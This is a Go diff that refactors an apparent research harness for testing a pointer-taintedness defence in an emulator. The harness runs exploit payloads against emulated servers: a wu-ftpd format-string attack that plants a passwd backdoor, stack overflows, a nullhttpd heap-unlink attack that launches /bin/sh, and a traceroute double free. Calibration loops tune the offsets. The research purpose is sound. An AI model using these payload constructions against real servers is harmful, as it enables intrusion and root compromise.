@@ -34,8 +34,8 @@ func lineSafe(v uint32) bool {
 
 // ftpLogin boots the FTP victim and authenticates the attacker's session,
 // returning the machine and connection.
-func ftpLogin(policy taint.Policy) (*Machine, ftpConn, error) {
-	m, err := bootFTP(policy)
+func ftpLogin(opts Options) (*Machine, ftpConn, error) {
+	m, err := bootFTP(opts)
 	if err != nil {
 		return nil, ftpConn{}, err
 	}
@@ -48,7 +48,7 @@ func ftpLogin(policy taint.Policy) (*Machine, ftpConn, error) {
 
 // bootFTP boots wuftpd to its accept loop — the natural snapshot point for
 // campaign replay, since everything up to here is session-independent.
-func bootFTP(policy taint.Policy) (*Machine, error) {
+func bootFTP(opts Options) (*Machine, error) {
 	p, err := mustProg("wuftpd")
 	if err != nil {
 		return nil, err
@@ -56,7 +56,8 @@ func bootFTP(policy taint.Policy) (*Machine, error) {
 	// Attack sessions complete within a few million instructions; the
 	// tight budget keeps wrong-offset calibration probes (which can send
 	// the victim into a corrupted-state loop) cheap.
-	m, err := Boot(p, Options{Policy: policy, Budget: 20_000_000})
+	opts.Budget = 20_000_000
+	m, err := Boot(p, opts)
 	if err != nil {
 		return nil, err
 	}
@@ -107,17 +108,17 @@ func (c ftpConn) cmd(line string) (string, error) {
 // address in the register; the control-data baseline misses it, the uid is
 // corrupted to a system-account value, and STOR plants a backdoor
 // /etc/passwd entry.
-func WuFTPDNonControl(policy taint.Policy) (Outcome, error) {
+func WuFTPDNonControl(opts Options) (Outcome, error) {
 	payload, uidAddr, err := CalibrateWuFTPDFormat()
 	if err != nil {
 		return Outcome{}, err
 	}
-	m, conn, err := ftpLogin(policy)
+	m, conn, err := ftpLogin(opts)
 	if err != nil {
 		return Outcome{}, err
 	}
 	_, runErr := conn.cmd(payload)
-	out := classify(runErr)
+	out := Classify(runErr)
 	if out.Detected || out.Crashed {
 		return out, nil
 	}
@@ -179,12 +180,12 @@ func rawCalibrateWuFTPDFormat() (string, uint32, error) {
 	}
 	for k := 0; k <= 24; k++ {
 		payload := "SITE EXEC " + wordBytes(uidAddr) + strings.Repeat("%x", k) + "%n"
-		_, conn, err := ftpLogin(taint.PolicyPointerTaintedness)
+		_, conn, err := ftpLogin(Options{Policy: taint.PolicyPointerTaintedness})
 		if err != nil {
 			return "", 0, err
 		}
 		_, runErr := conn.cmd(payload)
-		out := classify(runErr)
+		out := Classify(runErr)
 		if out.Detected && out.Alert.Value == uidAddr {
 			return payload, uidAddr, nil
 		}
@@ -196,19 +197,18 @@ func rawCalibrateWuFTPDFormat() (string, uint32, error) {
 // CWD argument overflows do_cwd's stack buffer and taints the saved return
 // address (consumed at JR), which both the paper's policy and the
 // control-data baseline catch.
-func WuFTPDControl(policy taint.Policy) (Outcome, error) {
+func WuFTPDControl(opts Options) (Outcome, error) {
 	const target = 0x61616160 // word-aligned tainted jump target
 	fill, err := calibrateWuFTPDCWD(target)
 	if err != nil {
 		return Outcome{}, err
 	}
-	m, conn, err := ftpLogin(policy)
+	_, conn, err := ftpLogin(opts)
 	if err != nil {
 		return Outcome{}, err
 	}
-	_ = m
 	_, runErr := conn.cmd("CWD " + strings.Repeat("a", fill) + wordBytes(target))
-	out := classify(runErr)
+	out := Classify(runErr)
 	if out.Crashed {
 		out.Compromised = true
 		out.Evidence = fmt.Sprintf("return address hijacked to %#x: %s", uint32(target), out.Evidence)
@@ -224,12 +224,12 @@ func calibrateWuFTPDCWD(target uint32) (int, error) {
 
 func rawCalibrateWuFTPDCWD(target uint32) (int, error) {
 	for fill := 60; fill <= 96; fill += 4 {
-		_, conn, err := ftpLogin(taint.PolicyPointerTaintedness)
+		_, conn, err := ftpLogin(Options{Policy: taint.PolicyPointerTaintedness})
 		if err != nil {
 			return 0, err
 		}
 		_, runErr := conn.cmd("CWD " + strings.Repeat("a", fill) + wordBytes(target))
-		out := classify(runErr)
+		out := Classify(runErr)
 		if out.Detected && out.Alert.Kind == taint.AlertJumpTarget && out.Alert.Value == target {
 			return fill, nil
 		}
@@ -267,12 +267,12 @@ func nullHTTPDHeapBody(fd, bk uint32) string {
 // NullHTTPDNonControl overwrites the cgi_unrestricted config word through
 // the unlink primitive, then requests /bin/sh as a CGI program — the
 // paper's CGI-BIN non-control-data attack.
-func NullHTTPDNonControl(policy taint.Policy) (Outcome, error) {
+func NullHTTPDNonControl(opts Options) (Outcome, error) {
 	p, err := mustProg("nullhttpd")
 	if err != nil {
 		return Outcome{}, err
 	}
-	m, err := Boot(p, Options{Policy: policy})
+	m, err := Boot(p, opts)
 	if err != nil {
 		return Outcome{}, err
 	}
@@ -290,7 +290,7 @@ func NullHTTPDNonControl(policy taint.Policy) (Outcome, error) {
 	// fd targets the config word; bk is a harmless aligned data address
 	// whose (nonzero) value becomes the new config contents.
 	runErr := httpPost(m, nullHTTPDHeapBody(cfgAddr-8, padAddr))
-	out := classify(runErr)
+	out := Classify(runErr)
 	if out.Detected || out.Crashed {
 		return out, nil
 	}
@@ -300,7 +300,7 @@ func NullHTTPDNonControl(policy taint.Policy) (Outcome, error) {
 		return Outcome{}, err
 	}
 	resp, runErr := m.Transact(ep2, "GET /bin/sh HTTP/1.0\r\n\r\n")
-	if term := classify(runErr); term.Detected || term.Crashed {
+	if term := Classify(runErr); term.Detected || term.Crashed {
 		return term, nil
 	}
 	if strings.Contains(resp, "EXEC /bin/sh") {
@@ -313,7 +313,7 @@ func NullHTTPDNonControl(policy taint.Policy) (Outcome, error) {
 // NullHTTPDControl aims the unlink write at the request handler's saved
 // return address, planting a tainted jump target — the published
 // control-data exploit shape.
-func NullHTTPDControl(policy taint.Policy) (Outcome, error) {
+func NullHTTPDControl(opts Options) (Outcome, error) {
 	raSlot, err := calibrateNullHTTPDRASlot()
 	if err != nil {
 		return Outcome{}, err
@@ -322,7 +322,7 @@ func NullHTTPDControl(policy taint.Policy) (Outcome, error) {
 	if err != nil {
 		return Outcome{}, err
 	}
-	m, err := Boot(p, Options{Policy: policy})
+	m, err := Boot(p, opts)
 	if err != nil {
 		return Outcome{}, err
 	}
@@ -335,7 +335,7 @@ func NullHTTPDControl(policy taint.Policy) (Outcome, error) {
 	// target that lands in the return-address slot.
 	const target = 0x61616160
 	runErr := httpPost(m, nullHTTPDHeapBody(target, raSlot-4))
-	out := classify(runErr)
+	out := Classify(runErr)
 	if out.Crashed {
 		out.Compromised = true
 		out.Evidence = fmt.Sprintf("handler return hijacked to %#x: %s", uint32(target), out.Evidence)
@@ -394,7 +394,7 @@ func rawCalibrateNullHTTPDRASlot() (uint32, error) {
 // rewrites the already-policy-checked URL pointer to an illegitimate URL
 // ("/cgi-bin/../../../../bin/sh") carried later in the same request. The
 // tainted pointer is dereferenced by a load-byte in serve().
-func GHTTPDNonControl(policy taint.Policy) (Outcome, error) {
+func GHTTPDNonControl(opts Options) (Outcome, error) {
 	reqBase, err := calibrateGHTTPDReqBase()
 	if err != nil {
 		return Outcome{}, err
@@ -415,17 +415,17 @@ func GHTTPDNonControl(policy taint.Policy) (Outcome, error) {
 		}
 		line1 := "GET " + strings.Repeat("A", 196) + wordBytes(target) + " "
 		line2 := strings.Repeat("/", pad) + evil
-		return runGHTTPD(policy, line1+"\n"+line2+"\n", evil)
+		return runGHTTPD(opts, line1+"\n"+line2+"\n", evil)
 	}
 	return Outcome{}, fmt.Errorf("no protocol-safe pointer encoding found near %#x", reqBase)
 }
 
 // GHTTPDControl is the classic long-URL stack smash: the copy overruns the
 // saved return address with tainted bytes.
-func GHTTPDControl(policy taint.Policy) (Outcome, error) {
+func GHTTPDControl(opts Options) (Outcome, error) {
 	const target = 0x61616160
 	line1 := "GET " + strings.Repeat("A", 204) + wordBytes(target)
-	out, err := runGHTTPD(policy, line1+"\n", "")
+	out, err := runGHTTPD(opts, line1+"\n", "")
 	if err != nil {
 		return out, err
 	}
@@ -436,12 +436,12 @@ func GHTTPDControl(policy taint.Policy) (Outcome, error) {
 	return out, nil
 }
 
-func runGHTTPD(policy taint.Policy, request, evil string) (Outcome, error) {
+func runGHTTPD(opts Options, request, evil string) (Outcome, error) {
 	p, err := mustProg("ghttpd")
 	if err != nil {
 		return Outcome{}, err
 	}
-	m, err := Boot(p, Options{Policy: policy})
+	m, err := Boot(p, opts)
 	if err != nil {
 		return Outcome{}, err
 	}
@@ -453,7 +453,7 @@ func runGHTTPD(policy taint.Policy, request, evil string) (Outcome, error) {
 		return Outcome{}, err
 	}
 	resp, runErr := m.Transact(ep, request)
-	out := classify(runErr)
+	out := Classify(runErr)
 	if out.Detected {
 		return out, nil
 	}
@@ -519,19 +519,17 @@ func rawCalibrateGHTTPDReqBase() (uint32, error) {
 // makes savestr's pool be freed twice with argument bytes sitting in the
 // chunk's link words; free()'s consolidation dereferences them (the paper:
 // a store inside free() on a tainted word built from the argument text).
-func TracerouteDoubleFree(policy taint.Policy) (Outcome, error) {
+func TracerouteDoubleFree(opts Options) (Outcome, error) {
 	p, err := mustProg("traceroute")
 	if err != nil {
 		return Outcome{}, err
 	}
-	m, err := Boot(p, Options{
-		Policy: policy,
-		Args:   []string{"-g", "123", "-g", "5.6.7.8"},
-	})
+	opts.Args = []string{"-g", "123", "-g", "5.6.7.8"}
+	m, err := Boot(p, opts)
 	if err != nil {
 		return Outcome{}, err
 	}
-	out := classify(m.Run())
+	out := Classify(m.Run())
 	if out.Detected {
 		return out, nil
 	}
@@ -555,9 +553,10 @@ type TranscriptEntry struct {
 }
 
 // WuFTPDTable2 replays the paper's Table 2 session — greeting, USER, PASS,
-// then the malicious SITE EXEC — under pointer taintedness, returning the
-// dialogue transcript ending in the security alert line.
-func WuFTPDTable2() ([]TranscriptEntry, Outcome, error) {
+// then the malicious SITE EXEC — under pointer taintedness (whatever
+// opts.Policy says), returning the dialogue transcript ending in the
+// security alert line.
+func WuFTPDTable2(opts Options) ([]TranscriptEntry, Outcome, error) {
 	payload, _, err := CalibrateWuFTPDFormat()
 	if err != nil {
 		return nil, Outcome{}, err
@@ -571,11 +570,11 @@ func WuFTPDTable2() ([]TranscriptEntry, Outcome, error) {
 			}
 		}
 	}
-	m, conn, err := ftpLogin(taint.PolicyPointerTaintedness)
+	opts.Policy = taint.PolicyPointerTaintedness
+	_, conn, err := ftpLogin(opts)
 	if err != nil {
 		return nil, Outcome{}, err
 	}
-	_ = m
 	// Reconstruct the dialogue so far (ftpLogin consumed it).
 	record("server", "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.")
 	record("client", "USER user1")
@@ -585,7 +584,7 @@ func WuFTPDTable2() ([]TranscriptEntry, Outcome, error) {
 	record("client", printablePayload(payload))
 	resp, runErr := conn.cmd(payload)
 	record("server", resp)
-	out := classify(runErr)
+	out := Classify(runErr)
 	if out.Detected {
 		record("alert", out.Alert.Error())
 	}
